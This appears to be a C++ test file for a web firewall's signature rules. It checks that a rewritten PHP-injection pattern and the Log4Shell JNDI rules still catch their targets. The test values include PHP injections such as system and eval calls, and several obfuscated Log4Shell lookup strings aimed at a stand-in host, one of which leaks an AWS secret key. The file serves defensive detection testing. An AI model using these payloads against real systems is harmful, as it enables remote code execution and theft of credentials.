// Core rules whose patterns were rewritten for scan cost: every form they caught is still caught.
#include <catch2/catch.hpp>

#include <algorithm>
#include <string>
#include <vector>

#include "signatures/matcher.h"
#include "signatures/rules.h"

using namespace guard::signatures;
using guard::request::FieldList;
using guard::request::Target;

namespace {

// Ids of the core rules (paranoia 1) matching one query argument with this value.
std::vector<uint32_t> Matching(const std::string& value) {
  static auto set = ParseRules(CoreRulesJson());
  REQUIRE(set.ok());
  static auto m = Matcher::Compile(*set, {});
  REQUIRE(m.ok());
  ScanState st;
  FieldList fl;
  fl.Add(Target::kArg, "q", value);
  REQUIRE((*m)->Scan(fl, &st));
  std::vector<uint32_t> ids;
  for (const Match& x : st.matches()) ids.push_back((*m)->rules()[x.rule_index].id);
  return ids;
}

bool Has(const std::vector<uint32_t>& ids, uint32_t id) { return std::find(ids.begin(), ids.end(), id) != ids.end(); }

}  // namespace

// 8506's `${` + PHP call was `\$\{\s*@?\s*(?:print|...)\s*\(`: the optional run after `${` made Hyperscan
// check every `${` (a body of `${${::-` cost 8 ns/byte for this pattern alone). It is now split into
// alternatives on the gap (none, whitespace first, `@` then whitespace), the same language: every shape of
// the gap must still match.
TEST_CASE("8506: every gap between ${ and the PHP call is still caught") {
  for (const char* v : {"${print(1)}", "${@print(1)}", "${ print(1)}", "${\t@ print (1)}", "${@  eval  ('x')}",
                        "${ @system(id)}", "${  @  EXEC(id)}", "${PhpInfo()}", "a ${md5 (1)} b", "${\n\nassert(1)}"}) {
    INFO(v);
    CHECK(Has(Matching(v), 8506));
  }
  for (const char* v : {"${printer(1)}", "${x print(1)}", "${@@print(1)}", "$ {print(1)}", "${print}"}) {
    INFO(v);
    CHECK(!Has(Matching(v), 8506));
  }
}

// The Log4Shell forms the `${` rules exist for (jndi category: 6501, 6502).
TEST_CASE("Log4Shell lookups and their obfuscations are caught") {
  for (const char* v : {"${jndi:ldap://evil.example/a}", "${${::-j}${::-n}di:ldap://evil.example/a}",
                        "${${lower:j}ndi:ldap://evil.example/a}", "${env:AWS_SECRET_ACCESS_KEY}${jndi:dns://x}",
                        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
                        "${jndi : rmi : / / evil.example/a}"}) {
    INFO(v);
    const auto ids = Matching(v);
    CHECK((Has(ids, 6501) || Has(ids, 6502)));
  }
}
